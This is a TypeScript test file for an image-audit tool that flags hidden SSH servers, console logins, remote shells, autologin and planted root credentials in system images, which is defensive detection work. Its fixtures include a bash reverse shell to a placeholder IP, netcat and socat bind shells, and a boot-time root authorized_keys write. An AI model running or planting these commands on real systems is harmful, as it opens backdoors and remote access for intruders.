import { describe, expect, it } from 'vitest';
import { auditImage } from './audit-image.js';
import { placeUsr } from './open-subject.js';
import { type FileSpec, treeOf } from './test-support/tree-of.js';

// Ways in that no unit of a known name shows.
const UNITS = '/usr/lib/systemd/system';
const ETC = '/etc/systemd/system';
const LINE = 'lockdown=integrity console=ttyS0 roothash=00';
const APP = `${UNITS}/app.service`;
const PROGRAM: FileSpec = { mode: 0o755 };
const GOOD: Record<string, FileSpec> = {
  '/etc/shadow': 'root:!:1::::::\n',
  '/usr/bin/app': PROGRAM,
  [`${UNITS}/multi-user.target`]: '[Unit]\n',
  [APP]: '[Service]\nExecStart=/usr/bin/app\n',
  [`${ETC}/default.target`]: `-> ${UNITS}/multi-user.target`,
  [`${ETC}/multi-user.target.wants/app.service`]: `-> ${APP}`,
};
const script = (text: string): FileSpec => ({ mode: 0o755, text: `#!/bin/sh\n${text}\n` });
const starts = (command: string, more = ''): Record<string, FileSpec> => ({
  [APP]: `[Service]\nExecStart=${command}\n${more}`,
});
const drops = (folder: string, name: string, text: string): Record<string, FileSpec> => ({
  [`${folder}/app.service.d/${name}.conf`]: `[Service]\n${text}`,
});

const found = async (files: Record<string, FileSpec>, commandLine = LINE): Promise<string[]> => {
  const { findings } = await auditImage({ tree: treeOf({ ...GOOD, ...files }), commandLine });
  return findings.map(({ rule, severity, where }) => `${rule} ${severity} ${where}`);
};

describe('auditImage', () => {
  it.each<[string, Record<string, FileSpec>, string]>([
    ['sshd in a unit of another name', starts('/usr/sbin/sshd -D'), `ssh-server high ${APP}`],
    [
      'sshd by a link of another name',
      { '/usr/sbin/sshd': PROGRAM, '/opt/x': '-> /usr/sbin/sshd', ...starts('@/opt/x x -D') },
      `ssh-server high ${APP}`,
    ],
    [
      'sshd in a script of a unit',
      {
        '/opt/start': script('# x\nif true; then\n  FOO=1 exec /opt/sshd -D\nfi'),
        ...starts('/opt/start'),
      },
      `ssh-server high ${APP}`,
    ],
    [
      'sshd before the program',
      starts('/usr/bin/app', 'ExecStartPre=-/x/dropbear\n'),
      `ssh-server high ${APP}`,
    ],
    ['getty in a unit of another name', starts('-/sbin/agetty ttyS0'), `console-login high ${APP}`],
    [
      'a shell that opens a console by itself',
      starts("/bin/sh -c 'exec /bin/bash </dev/ttyS0 >/dev/ttyS0 2>&1'"),
      `debug-shell high ${APP}`,
    ],
    [
      'a shell by env',
      starts('/usr/bin/env bash', 'StandardInput=tty\n'),
      `debug-shell high ${APP}`,
    ],
    [
      'a shell on a console as a file',
      starts('/bin/bash -i', 'StandardInput=file:/dev/ttyS0\n'),
      `debug-shell high ${APP}`,
    ],
    [
      'a shell behind a socket',
      starts('/bin/sh', 'StandardInput=socket\n'),
      `remote-shell high ${APP}`,
    ],
    ['a shell by netcat', starts('/bin/ncat -l 9 -e /bin/sh'), `remote-shell high ${APP}`],
    [
      'a shell by socat',
      starts('/bin/socat TCP-LISTEN:9 EXEC:/bin/sh'),
      `remote-shell high ${APP}`,
    ],
    [
      'a shell by bash',
      starts("/bin/bash -c 'bash -i >& /dev/tcp/1.2.3.4/9'"),
      `remote-shell high ${APP}`,
    ],
    [
      'a drop-in behind one that clears',
      {
        ...drops(UNITS, '10', 'ExecStart=\n'),
        ...drops(ETC, '20', 'ExecStart=/sbin/agetty -a root tty1\n'),
      },
      `autologin high ${APP}`,
    ],
    [
      'a drop-in of a prefix',
      {
        [`${UNITS}/my-app.service`]: '[Service]\nExecStart=/x\n',
        [`${UNITS}/my-.service.d/1.conf`]: '[Service]\nExecStart=/sbin/agetty -a root tty1\n',
      },
      `autologin high ${UNITS}/my-app.service`,
    ],
    [
      'a unit of systemctl set-property',
      { '/etc/systemd/system.control/y.service': '[Service]\nExecStart=/sbin/agetty tty1\n' },
      'console-login medium /etc/systemd/system.control/y.service',
    ],
    [
      'an emergency shell that asks for nothing',
      {
        [`${UNITS}/emergency.service`]:
          '[Service]\nEnvironment=SYSTEMD_SULOGIN_FORCE=1\nExecStart=-/x/systemd-sulogin-shell\n',
        [APP]: '[Unit]\nOnFailure=emergency.service\n',
      },
      `debug-shell high ${UNITS}/emergency.service`,
    ],
    [
      'a console that sets the password of root',
      {
        '/etc/shadow': 'daemon:*:1::::::\n',
        [`${UNITS}/systemd-firstboot.service`]: '[Service]\nExecStart=x --prompt-root-password\n',
        [APP]: '[Unit]\nWants=systemd-firstboot.service\n',
      },
      `password high ${UNITS}/systemd-firstboot.service`,
    ],
    [
      'the getty generator of NixOS',
      {
        [`${UNITS}/serial-getty@.service`]: '[Service]\nExecStart=/sbin/agetty %I\n',
        '/nix/store/x-systemd-257/lib/systemd/system-generators/systemd-getty-generator': PROGRAM,
      },
      `console-login high ${UNITS}/serial-getty@.service`,
    ],
    ['rc.local', { '/etc/rc.local': script('getty ttyS0 &') }, 'console-login high /etc/rc.local'],
    [
      'runit',
      { '/etc/service/tty/run': script('exec setsid getty 38400 tty1') },
      'console-login high /etc/service/tty/run',
    ],
    [
      'OpenRC',
      {
        '/etc/init.d/agetty': { mode: 0o755, text: '#!/sbin/openrc-run\ncommand=/sbin/agetty\n' },
        '/etc/runlevels/default/agetty.ttyS0': '-> /etc/init.d/agetty',
      },
      'console-login high /etc/runlevels/default/agetty.ttyS0',
    ],
    [
      'cron',
      { '/etc/crontab': '*/5 * * * * root /usr/sbin/sshd\n' },
      'ssh-server high /etc/crontab',
    ],
    [
      'udev',
      { '/etc/udev/rules.d/9.rules': 'ACTION=="add", RUN+="/x/sshd -D"\n' },
      'ssh-server high /etc/udev/rules.d/9.rules',
    ],
    ['an init that is a script', { '/init': script('mount x\nexec sh') }, 'debug-shell high /init'],
    [
      'a record of a user',
      { '/etc/userdb/a.user-privileged': '{"privileged":{"hashedPassword": ["$6$a"]}}' },
      'password high /etc/userdb/a.user-privileged',
    ],
    [
      'keys in a record of a user',
      { '/usr/lib/userdb/a.user': '{"privileged":{"sshAuthorizedKeys":["x"]}}' },
      'authorized-keys high /usr/lib/userdb/a.user',
    ],
    [
      'passwords elsewhere',
      { '/var/lib/extrausers/shadow': 'a:$6$x:1::::::\n' },
      'password high /var/lib/extrausers/shadow',
    ],
    [
      'keys elsewhere',
      { '/srv/a/.ssh/authorized_keys': 'x' },
      'authorized-keys high /srv/a/.ssh/authorized_keys',
    ],
    [
      'keys that are written at boot',
      {
        '/usr/lib/tmpfiles.d/x.conf':
          'f+ /root/.ssh/authorized_keys 600 root root - ssh-ed25519 A\n',
      },
      'authorized-keys high /usr/lib/tmpfiles.d/x.conf',
    ],
    [
      'a mount that ends in rw',
      { '/etc/fstab': '/dev/sdb /d ext4 ro,rw 0 0\n' },
      'writable-root high /etc/fstab',
    ],
    [
      'the agent as a snap',
      { '/var/lib/snapd/snaps/amazon-ssm-agent_9.snap': 'x' },
      'ssm-agent high /var/lib/snapd/snaps/amazon-ssm-agent_9.snap',
    ],
  ])('finds %s', async (_name, files, expected) => {
    expect(await found(files)).toContain(expected);
  });

  it.each<[string, Record<string, FileSpec>]>([
    [
      'a script that only names sshd',
      { '/opt/x': script('echo sshd\n# sshd -D\nrm -f /x/login'), ...starts('/opt/x') },
    ],
    [
      'a shell with a script',
      { '/opt/x': script('date'), ...starts('/bin/sh /opt/x', 'StandardInput=tty\n') },
    ],
    ['a shell without a console', starts("/bin/sh -c 'echo a > /run/b'")],
    [
      'a drop-in that is masked',
      { ...drops(UNITS, '1', 'ExecStart=/x/sshd\n'), ...drops(ETC, '1', '') },
    ],
    [
      'a credential',
      { '/usr/lib/tmpfiles.d/x.conf': 'f^ /root/.ssh/authorized_keys 600 root root - a.b\n' },
    ],
    ['a locked record', { '/etc/userdb/a.user': '{"privileged":{"hashedPassword":["!"]}}' }],
    ['a mount that ends in ro', { '/etc/fstab': '/dev/sdb /d ext4 rw,ro 0 0\n' }],
  ])('does not find %s', async (_name, files) => {
    expect(await found(files)).toEqual([]);
  });

  it.each([
    ['getty', 'getty '.repeat(150_000)],
    ['login', 'login -'.repeat(150_000)],
    ['shells', '/bin/sh -c '.repeat(90_000)],
    ['redirections', '<'.repeat(900_000)],
    ['white space', `x${' '.repeat(900_000)}y`],
  ])('reads a long command of %s in time', async (_name, command) => {
    expect(Array.isArray(await found(starts(command)))).toBe(true);
  });

  it('reads each script once, also when they start each other', async () => {
    const all = Array.from({ length: 40 }, (_, i) => `/opt/s${i}`);
    const scripts = all.map((path) => [path, script(all.join('\n'))] as const);
    const files = { ...Object.fromEntries(scripts), ...starts('/opt/s0') };
    expect(await found(files)).toEqual([]);
    expect(await found({ ...files, '/opt/s39': script('/opt/s0\n/x/sshd') })).toEqual([
      `ssh-server high ${APP}`,
    ]);
  });

  it('counts the last word about login prompts', async () => {
    const files = {
      [`${UNITS}/serial-getty@.service`]: 'x',
      '/usr/lib/systemd/system-generators/systemd-getty-generator': PROGRAM,
    };
    const high = `console-login high ${UNITS}/serial-getty@.service`;
    expect(await found(files, `${LINE} systemd.getty_auto=0`)).not.toContain(high);
    expect(await found(files, `${LINE} systemd.getty_auto=0 systemd.getty_auto=y`)).toContain(high);
  });

  it('says that an init other than systemd was not followed', async () => {
    const notes = async (files: Record<string, FileSpec>, line = LINE): Promise<string[]> => [
      ...(await auditImage({ tree: treeOf(files), commandLine: line })).notes,
    ];
    expect(await notes({ '/sbin/init': PROGRAM })).toEqual([
      expect.stringContaining('/sbin/init is'),
    ]);
    expect(await notes({ '/x': PROGRAM }, `${LINE} init=/x`)).toEqual([
      expect.stringContaining('/x is'),
    ]);
    expect(await notes({})).toEqual([expect.stringContaining('no init')]);
    const systemd = { '/sbin/init': '-> ../lib/systemd/systemd', '/lib/systemd/systemd': PROGRAM };
    expect(await notes(systemd)).toEqual([]);
  });

  it('looks at a /usr that also has a store', async () => {
    const tree = placeUsr(
      treeOf({
        '/nix/store/x': 'x',
        '/lib/systemd/system/sshd.service': 'x',
        '/share/factory/etc/systemd/system/y.service': '[Service]\nExecStart=/x/agetty\n',
      }),
    );
    const { findings } = await auditImage({ tree, commandLine: LINE });
    expect(findings.map(({ where }) => where)).toEqual([
      '/usr/lib/systemd/system/sshd.service',
      '/usr/share/factory/etc/systemd/system/y.service',
    ]);
    expect(tree.entry('/nix/store/x')).toBeDefined();
  });

  it('finds the system of NixOS behind an init that is none', async () => {
    const system = '/nix/store/abc-nixos-system-x';
    const files: Record<string, FileSpec> = {
      '/nix/store/def-wrapper/bin/init': PROGRAM,
      [`${system}/etc/systemd/system/sshd.service`]: 'x',
    };
    expect(await found(files, `${LINE} init=/nix/store/def-wrapper/bin/init`)).toEqual([
      `ssh-server medium ${system}/etc/systemd/system/sshd.service`,
    ]);
  });

  it('allows places by a pattern, and not what stands elsewhere', async () => {
    const files = {
      '/nix/store/x-openssh/bin/sshd': PROGRAM,
      ...starts('/nix/store/x-openssh/bin/sshd'),
    };
    const { findings, allowed } = await auditImage(
      { tree: treeOf({ ...GOOD, ...files }), commandLine: LINE },
      ['/nix/store/*/bin/sshd'],
    );
    expect(findings.map(({ where }) => where)).toEqual([APP]);
    expect(allowed.map(({ where }) => where)).toEqual(['/nix/store/x-openssh/bin/sshd']);
  });
});
